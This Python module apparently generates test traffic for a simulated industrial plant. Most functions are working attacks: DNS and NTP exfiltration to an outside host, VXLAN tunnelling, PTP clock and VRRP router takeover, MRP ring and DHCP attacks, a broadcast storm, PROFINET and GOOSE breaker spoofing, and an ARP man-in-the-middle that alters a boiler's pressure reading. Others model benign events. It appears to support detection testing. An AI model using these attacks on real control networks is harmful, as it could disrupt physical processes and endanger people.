"""The network's own services taken over, data carried out, and what happens to networks without an attacker."""

from __future__ import annotations

import contextlib
import hashlib
import json
import socket
import struct
import subprocess
import time
from typing import TYPE_CHECKING, Final

from interlock.plant.machines import BY_NAME
from interlock.plant.protocols.goose import ETHERTYPE as GOOSE
from interlock.plant.protocols.goose import Publisher
from interlock.plant.protocols.network import ARP, arp
from interlock.plant.protocols.profinet import ETHERTYPE as PROFINET
from interlock.plant.protocols.profinet import DcpDevice, find
from interlock.plant.wire.frames import End, ethernet, internet_checksum, tcp, udp
from proving.clients.talk import INTERFACE, Talk, send_frames, tell

if TYPE_CHECKING:
    from collections.abc import Callable

_EVERYBODY: Final = b"\xff" * 6
_BREAKS_S: Final = 1_795_935_000.0
_LAPTOP: Final = BY_NAME["vendor-laptop"].end


def _ip(source: End, target: End, protocol: int, payload: bytes) -> bytes:
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, 0, 255, protocol, 0, source.ip, target.ip
    )
    head = head[:10] + internet_checksum(head).to_bytes(2, "big") + head[12:]
    return ethernet(target.mac, source.mac, 0x0800, head + payload)


def names_slowly(to: str) -> None:
    """A file leaves in names: thirty characters each, one every two seconds."""
    for number in range(25):
        label = hashlib.sha256(bytes((number,))).hexdigest()[:30].encode("ascii")
        name = bytes((len(label),)) + label + b"\x02up\x07example\x03org\0"
        tell(
            to, 53, struct.pack("!HHHHHH", number + 77, 0x100, 1, 0, 0, 0) + name + b"\0\x10\0\1", pause_s=0.9
        )


def clock_carries(to: str) -> None:
    """Datagrams to a time server outside that carry more than time."""
    for number in range(20):
        tell(to, 123, b"\x23" + bytes(47) + hashlib.sha256(bytes((number,))).digest() * 12, pause_s=0.6)


def frames_carried(to: str) -> None:
    """A tunnel of frames (VXLAN) to the outside: what the plant says is heard there, and answered."""
    for number in range(20):
        inner = tcp(BY_NAME["historian"].end, BY_NAME["plc-water"].end, (50000, 502), (number * 12, 1), 0x18,
                    struct.pack("!HHHBBHH", number, 0, 6, 1, 3, 0, 2))  # fmt: skip
        tell(to, 4789, b"\x08\0\0\0\0\0\x2a\0" + inner, pause_s=0.5)


def clock_taken(to: str) -> None:  # noqa: ARG001 - to everybody
    """PTP: a grandmaster better than any other, whose time is an hour ahead (IEEE 1588)."""
    own = _LAPTOP.mac[:3] + b"\xff\xfe" + _LAPTOP.mac[3:]
    frames = []
    for number in range(12):
        port = own + b"\0\1" + struct.pack("!H", number)
        late = struct.pack("!HI", 0, 1_795_950_000 + number) + bytes(4)
        announce = late + struct.pack("!HBBBBHB", 37, 0, 0, 6, 0x20, 0x4E5D, 0) + own + b"\0\0\x20"
        for kind, body in ((0xB, announce), (0x0, late)):
            size = 34 + len(body)
            head = (
                struct.pack("!BBHBBHQI", kind, 2, size, 0, 0, 0x3C, 0, 0)
                + port
                + bytes((5 if kind else 0, 1))
            )
            frames.append(ethernet(bytes.fromhex("011b19000000"), _LAPTOP.mac, 0x88F7, head + body))
            group = End(bytes.fromhex("01005e000181"), bytes((224, 0, 1, 129)))
            frames.append(udp(_LAPTOP, group, (320 if kind else 319,) * 2, head + body))
    send_frames(frames, 0.25)


def ring_taken(to: str) -> None:  # noqa: ARG001 - to everybody
    """MRP: test frames of a manager that the ring does not have, and topology changes (IEC 62439-2)."""
    frames = []
    for number in range(60):
        common = b"\x01\x12" + struct.pack("!H", number) + b"\xff" * 16 + b"\0\0"
        own = _LAPTOP.mac
        test = b"\0\1\x02\x12" + b"\0\0" + own + struct.pack("!HHHI", 0, 1, number, number) + b"\0\0"
        change = b"\0\1\x03\x0c\0\0" + own + struct.pack("!HH", 0, 10)
        body, group = (change, b"\2") if number % 10 == 9 else (test, b"\1")
        frames.append(ethernet(bytes.fromhex("01154e0000") + group, own, 0x88E3, body + common))
    send_frames(frames, 0.1)


def router_taken(to: str) -> None:
    """VRRP: the way out is here, says a router of the highest priority, by ARP as well (RFC 5798)."""
    virtual = End(bytes.fromhex("00005e000101"), socket.inet_aton(to))
    group = End(bytes.fromhex("01005e000012"), bytes((224, 0, 0, 18)))
    body = bytes((0x21, 1, 255, 1, 0, 1, 0, 0)) + virtual.ip + bytes(8)
    body = body[:6] + internet_checksum(body).to_bytes(2, "big") + body[8:]
    advert = _ip(End(virtual.mac, _LAPTOP.ip), group, 112, body)
    taken = ethernet(_EVERYBODY, virtual.mac, ARP, arp(1, virtual, End(bytes(6), virtual.ip)))
    send_frames([taken, *[advert] * 12], 1.0)


def leases_used_up(to: str) -> None:  # noqa: ARG001 - to everybody
    """DHCP: addresses asked for by machines that do not exist, until there is none left."""
    frames = []
    for number in range(150):
        mac = hashlib.sha256(bytes((number,))).digest()[:5].join((b"\x02", b""))
        head = (
            struct.pack("!BBBBIHH", 1, 1, 6, 0, number + 4711, 0, 0x8000) + bytes(16) + mac.ljust(16, b"\0")
        )
        octets = head + bytes(192) + b"\x63\x82\x53\x63\x35\x01\x01\xff"
        frames.append(
            udp(End(mac, bytes(4)), End(_EVERYBODY, b"\xff" * 4), (68, 67), octets.ljust(300, b"\0"))
        )
    send_frames(frames, 0.04)


def storm(to: str) -> None:
    """The same broadcast over and over, as a loop makes it: controllers have nothing else to do."""
    asked = ethernet(_EVERYBODY, _LAPTOP.mac, ARP, arp(1, _LAPTOP, End(bytes(6), socket.inet_aton(to))))
    send_frames([asked] * 6000, 0.001)


def station_answered(to: str) -> None:
    """PROFINET: whoever asks for the remote I/O by its name is answered by somebody else."""
    mine = DcpDevice("rio-boiler", "S7-PRACTICE", (0x2A, 0x501), 1, bytes((10, 77, 1, 13)))
    target = bytes.fromhex(to.replace(":", ""))
    frames = [
        ethernet(target, _LAPTOP.mac, PROFINET, octets)
        for number in range(15)
        for octets in mine.receive(find(0x5A100000 + number, "rio-boiler"))
    ]
    send_frames(frames, 1.0)


def breaker_simulated(to: str) -> None:  # noqa: ARG001 - to a group
    """GOOSE in the bay controller's name, marked as simulated, the breaker open (IEC 61850-8-1, S bit)."""
    made = Publisher(reference="RTUFEEDERCTRL/LLN0$GO$breaker", data_set="RTUFEEDERCTRL/LLN0$breaker",
                     name="breaker", application=0x3001)  # fmt: skip
    made.changed((True, 0.0), 1.0)
    made.changed((False, 0.0), _BREAKS_S)
    frames = []
    for _ in range(10):
        octets = bytearray(made.payload(4000))
        octets[4] |= 0x80
        frames.append(
            ethernet(bytes.fromhex("010ccd010001"), BY_NAME["rtu-feeder"].end.mac, GOOSE, bytes(octets))
        )
        made.changed((False, 0.0), _BREAKS_S)
    send_frames(frames, 0.5)


def between_panel_and_boiler(to: str) -> None:
    """ARP to both; what passes is sent on, the pressure that the boiler tells changed (ettercap's filter)."""
    ends = {BY_NAME["hmi"].ip: BY_NAME["hmi"].end, to: BY_NAME["plc-boiler"].end}
    by_ip = {end.ip: end for end in ends.values()}
    one, other = ends.values()
    taken = [
        ethernet(a.mac, _LAPTOP.mac, ARP, arp(2, End(_LAPTOP.mac, b.ip), a))
        for a, b in ((one, other), (other, one))
    ]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as link:
        link.bind((INTERFACE, 0))
        link.settimeout(0.2)
        end, again = time.monotonic() + 22.0, 0.0
        while (now := time.monotonic()) < end:
            if now > again:
                again = now + 2.0
                for frame in taken:
                    link.send(frame.ljust(60, b"\0"))
            with contextlib.suppress(TimeoutError):
                frame, (_, _, kind, *_) = link.recvfrom(4096)
                target = by_ip.get(frame[30:34])
                if kind == 0 and target and frame[:6] == _LAPTOP.mac and frame[12:14] == b"\x08\0":
                    link.send(_passed_on(frame, target))


def _passed_on(frame: bytes, target: End) -> bytes:
    size = int.from_bytes(frame[16:18], "big")
    ports = struct.unpack_from("!HHIIBB", frame, 34)
    payload = frame[34 + (ports[4] >> 4) * 4 : 14 + size]
    if ports[0] == 102 and payload[5:9] == b"\xf0\x80\x32\x03" and len(payload) > 40:
        payload = payload[:25] + struct.pack("!f", 6.01) + payload[29:]
    source = End(_LAPTOP.mac, frame[26:30])
    if len(payload) > 0 or not ports[4] >> 4 > 5:
        return tcp(source, target, (ports[0], ports[1]), (ports[2], ports[3]), ports[5], payload)
    return target.mac + source.mac + frame[12:]


def _dark(interface: str, seconds: float, **changed: str) -> None:
    subprocess.run(["ip", "link", "set", interface, "down"], check=True)
    time.sleep(seconds)
    for what, value in changed.items():
        subprocess.run(["ip", "link", "set", interface, what, value], check=True)
    subprocess.run(["ip", "link", "set", interface, "up"], check=True)


def restarted(to: str) -> None:  # noqa: ARG001 - it is the machine's own end
    """A machine restarted by its owner: half a minute, and an announcement of its address (RFC 5227)."""
    _dark(INTERFACE, 30.0)


def switch_restarted(to: str) -> None:  # noqa: ARG001 - all of its ports
    """The switch restarts: nobody hears anybody for a while, in the namespace of the wires."""
    links = json.loads(
        subprocess.run(["ip", "-j", "link"], check=True, capture_output=True, text=True).stdout
    )
    ports = [one["ifname"] for one in links if one["ifname"].startswith("p")]
    for port in ports:
        subprocess.run(["ip", "link", "set", port, "down"], check=True)
    time.sleep(25.0)
    for port in ports:
        subprocess.run(["ip", "link", "set", port, "up"], check=True)


def controller_swapped(to: str) -> None:
    """A controller replaced by a spare one of its kind at the same address, as ordered; and it announces itself."""
    _dark(INTERFACE, 30.0, address="00:1d:9c:5a:10:8e")
    mine = End(bytes.fromhex("001d9c5a108e"), socket.inet_aton(to))
    nobody = End(mine.mac, bytes(4))
    target = End(bytes(6), mine.ip)
    asked = [ethernet(_EVERYBODY, mine.mac, ARP, arp(1, who, target)) for who in (nobody, nobody, mine, mine)]
    send_frames(asked, 0.3)


def controller_back(to: str) -> None:
    """The old one repaired and put in again."""
    _dark(INTERFACE, 25.0, address=BY_NAME["plc-filler"].mac)
    mine = BY_NAME["plc-filler"].end
    send_frames(
        [ethernet(_EVERYBODY, mine.mac, ARP, arp(1, mine, End(bytes(6), socket.inet_aton(to))))] * 2, 0.3
    )


def laptop_works(to: str) -> None:
    """The maker's laptop reads the boiler's status lists and a block, as ordered."""
    from interlock.plant.protocols import s7comm  # noqa: PLC0415

    with Talk(to, 102) as talk:
        talk.say(s7comm.connect())
        talk.say(s7comm.setup(1))
        for number, (szl, index) in enumerate(((0x11, 0), (0x1C, 0), (0x424, 0))):
            talk.say(s7comm.szl(2 + number, szl, index), 0.5)
        start = b"\x1d\0\0\0\0\0\0\0\x09_0800001A"
        handle = talk.say(s7comm.job(10, start), 0.3)[-9:-5] or b"\0\0\0\1"
        for number in range(6):
            talk.say(
                s7comm.job(
                    11 + number, b"\x1e\0\0\0" + b"\0\0\0\1"[:4] if not handle else b"\x1e\0\0\0" + handle
                ),
                0.3,
            )
        talk.say(s7comm.job(20, b"\x1f\0\0\0" + handle), 0.3)


def laptop_plugged(to: str) -> None:
    """A laptop is plugged in, and says what its system says by itself: no attack."""
    mine, group = _LAPTOP, End(bytes.fromhex("01005e0000fb"), bytes((224, 0, 0, 251)))
    nobody, target = End(mine.mac, bytes(4)), End(bytes(6), mine.ip)
    frames = [
        ethernet(_EVERYBODY, mine.mac, ARP, arp(1, who, target))
        for who in (nobody, nobody, nobody, mine, mine)
    ]
    frames.append(ethernet(_EVERYBODY, mine.mac, ARP, arp(1, mine, End(bytes(6), socket.inet_aton(to)))))
    named = struct.pack("!HHHHHH", 0, 0, 1, 0, 0, 0) + b"\x0avendor-lap\x05local\0\0\xff\0\1"
    frames += [udp(mine, group, (5353, 5353), named)] * 3
    local = End(bytes.fromhex("01005e0000fc"), bytes((224, 0, 0, 252)))
    frames += [
        udp(mine, local, (50123, 5355), struct.pack("!HHHHHH", 9, 0, 1, 0, 0, 0) + b"\x04wpad\0\0\1\0\1")
    ] * 2
    net = End(_EVERYBODY, bytes((10, 77, 1, 255)))
    nbns = (
        struct.pack("!HHHHHH", 5, 0x2910, 1, 0, 0, 1)
        + b"\x20"
        + b"FGEFEOEEEPFCCNEMEBFACACACACACAAA"
        + b"\0\0\x20\0\1"
    )
    nbns += b"\xc0\x0c\0\x20\0\1" + struct.pack("!IHH", 300000, 6, 0) + mine.ip
    frames += [udp(mine, net, (137, 137), nbns)] * 3
    ssdp = End(bytes.fromhex("01005e7ffffa"), bytes((239, 255, 255, 250)))
    search = b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\n'
    search += b"MX: 1\r\nST: ssdp:all\r\n\r\n"
    frames += [udp(mine, ssdp, (50124, 1900), search)] * 2
    send_frames(frames, 0.4)


def panel_announced(to: str) -> None:
    """A second panel, whose reading the site file orders, reads what the first one reads."""
    from interlock.plant.protocols import modbus  # noqa: PLC0415

    with Talk(to, 502) as talk:
        for number in range(20):
            talk.say(modbus.adu(2 * number + 1, 1, modbus.read(4, 0, 5)), 0.1)
            talk.say(modbus.adu(2 * number + 2, 1, modbus.read(3, 0, 2)), 0.9)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "names-slowly": names_slowly,
    "clock-carries": clock_carries,
    "frames-carried": frames_carried,
    "clock-taken": clock_taken,
    "ring-taken": ring_taken,
    "router-taken": router_taken,
    "leases-used-up": leases_used_up,
    "storm": storm,
    "station-answered": station_answered,
    "breaker-simulated": breaker_simulated,
    "between-panel-and-boiler": between_panel_and_boiler,
    "restarted": restarted,
    "switch-restarted": switch_restarted,
    "controller-swapped": controller_swapped,
    "controller-back": controller_back,
    "laptop-works": laptop_works,
    "laptop-plugged": laptop_plugged,
    "panel-announced": panel_announced,
}
